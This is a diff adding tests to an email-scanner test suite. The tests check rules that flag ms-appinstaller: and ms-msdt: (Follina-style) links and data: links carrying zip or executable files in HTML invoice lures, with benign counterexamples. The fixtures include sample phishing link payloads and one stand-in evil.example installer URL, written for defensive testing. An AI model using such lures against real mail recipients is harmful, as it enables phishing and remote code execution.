@@ -440,3 +440,44 @@ test('URL_ARCHIVE_PASSWORD_DOWNLOAD: a link to an archive in a letter that gives
     ['an archive named in words beside a link on an ordinary host', 'The photos are in a zip archive: https://photos.example-family.net/d/summer\nPassword: 2291', false],
   ]);
 });
+
+/** Whether `id` is found in each row's HTML letter (name, HTML body, found), end to end. */
+async function assertFoundInHtmlLetters(id: string, table: readonly [name: string, html: string, found: boolean][]): Promise<void> {
+  const { defaultConfig } = await import('../../config/load.js');
+  const { createScanner } = await import('../../runtime/index.js');
+  const scanner = await createScanner({ config: defaultConfig() });
+  const mail = (html: string) =>
+    new TextEncoder().encode(['From: Accounts <accounts@northwind-supplies.com>', 'To: a@example.org', 'Subject: Invoice', 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', '', html, ''].join('\r\n'));
+  for (const [name, html, found] of table) {
+    const r = await scanner.scan({ raw: mail(html), source: 't.eml' });
+    assert.equal(r.findings.some((f) => f.id === id), found, `${name}: ${r.findings.map((f) => f.id).join(',')}`);
+  }
+}
+
+test('URL_INSTALLER_PROTOCOL (session 39): an ms-appinstaller: or ms-msdt: link the reader clicks; not the handler quoted in a write-up', async () => {
+  await assertFoundInHtmlLetters('URL_INSTALLER_PROTOCOL', [
+    ['App Installer behind "Open the invoice"', '<p>Your invoice is ready. <a href="ms-appinstaller:?source=https://docs-share.online/app/Reader.appinstaller">Open the invoice</a></p>', true],
+    ['App Installer, German button', '<p>Ihre Rechnung: <a href="ms-appinstaller:?source=https://akten-portal.net/PDFViewer.msix">Rechnung öffnen</a></p>', true],
+    ['the troubleshooter (Follina)', '<p><a href="ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=x&quot;">Ver documento</a></p>', true],
+    ['an image map area', '<img src="cid:x" usemap="#m"><map name="m"><area href="ms-appinstaller:?source=https://x-docs.net/a.appinstaller" alt="Download"></map>', true],
+    // Must not: a security newsletter quoting the handlers in its text, the Store's web page, a web link named like the handler.
+    ['a write-up quoting the handlers', '<p>Attackers abused ms-appinstaller:?source=https://evil.example/x.appinstaller and ms-msdt:/id PCWDiagnostic.</p><p><a href="https://news.example.org/read">Read more</a></p>', false],
+    ['the Store\'s web page', '<p>Get the app: <a href="https://apps.microsoft.com/detail/9wzdncrfj3q2">Microsoft Store</a></p>', false],
+    ['a web page about the handler', '<p><a href="https://learn.example.com/windows/msix/app-installer/ms-appinstaller-scheme">ms-appinstaller scheme</a></p>', false],
+  ]);
+});
+
+test('URL_DATA_FILE (session 39): a clicked data: link whose media type is a file; not pictures, pages, text or PDF, nor one only written', async () => {
+  await assertFoundInHtmlLetters('URL_DATA_FILE', [
+    ['an octet stream behind "Download invoice"', '<p>Your invoice: <a href="data:application/octet-stream;base64,UEsDBBQAAAAIAA==">Download invoice</a></p>', true],
+    ['a zip, German', '<p><a href="data:application/zip;base64,UEsDBBQAAAAIAA==" download="Rechnung.zip">Rechnung herunterladen</a></p>', true],
+    ['a program, upper case and parameters', '<p><a href="DATA:Application/X-MSDownload;name=setup.exe;base64,TVqQAAMAAAAEAAAA">Installer</a></p>', true],
+    ['an ISO image', '<p><a href="data:application/x-iso9660-image;base64,AAAA">Documento</a></p>', true],
+    // Must not: a picture linked as data:, a data: page (URL_DATA_URI's), plain text, a PDF shown by the browser, a URI only written.
+    ['a logo picture', '<p><a href="data:image/png;base64,iVBORw0KGgo=">logo</a></p>', false],
+    ['a data: page', '<p><a href="data:text/html;base64,PGgxPkhpPC9oMT4=">Open</a></p>', false],
+    ['plain text', '<p><a href="data:text/plain,hello">note</a></p>', false],
+    ['a PDF', '<p><a href="data:application/pdf;base64,JVBERi0xLjQK">Statement</a></p>', false],
+    ['written in the text only', '<p>Example: data:application/zip;base64,UEsDBA== is how a file is inlined.</p>', false],
+  ]);
+});
